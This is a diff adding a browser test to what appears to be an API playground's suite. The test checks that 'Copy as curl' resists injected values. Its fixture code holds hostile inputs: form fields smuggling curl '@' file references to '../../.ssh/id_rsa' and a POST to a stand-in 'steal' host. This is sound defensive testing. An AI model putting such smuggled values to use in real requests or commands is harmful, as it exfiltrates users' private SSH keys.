@@ -252,6 +252,36 @@ test('the network does what it is told, and the request can be looked at', async
   await expect(place).toContainText('is not a status')
 })
 
+test('a request is no trap when it is copied as a command', async ({ page, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  const code = `const form = new FormData()
+form.set('key', new File(['x'], '../../.ssh/id_rsa', { type: 'text/plain,../../.ssh/id_rsa' }))
+await fetch('https://api.example.com/v1/echo', { method: 'POST', body: form })
+const named = new FormData()
+named.set('a=@../../.ssh/id_rsa;x', new File(['x'], 'x.txt'))
+await fetch('https://api.example.com/v1/echo', { method: 'POST', body: named })
+await fetch('https://elsewhere.test/steal', { method: 'POST', body: form }).catch(() => {})
+`
+  const place = await openProgram(page, ESM, { code })
+  await button(place, 'Run').click()
+  const exchanges = results(place).locator('details')
+  await expect(exchanges).toHaveCount(3)
+  for (const exchange of await exchanges.all()) await exchange.locator('summary').click()
+
+  await button(exchanges.nth(0), 'Copy as curl').click()
+  await expect(button(exchanges.nth(0), 'Copied')).toBeVisible()
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
+    `curl https://api.example.com/v1/echo \\\n  --form 'key=@id_rsa;type=application/octet-stream'`,
+  )
+  await expect(exchanges.nth(1)).toContainText(
+    'No command: the request has characters that are not safe in a terminal.',
+  )
+  await expect(exchanges.nth(2)).toContainText(
+    'No command: the playground reaches https://api.example.com only.',
+  )
+  await expect(button(results(place), 'Copy as curl')).toHaveCount(0)
+})
+
 test('a playground that is left behind is gone, and works again on return', async ({ page }) => {
   await openHydrated(page, ESM)
   await button(block(page, 'first-request'), 'Run').click()
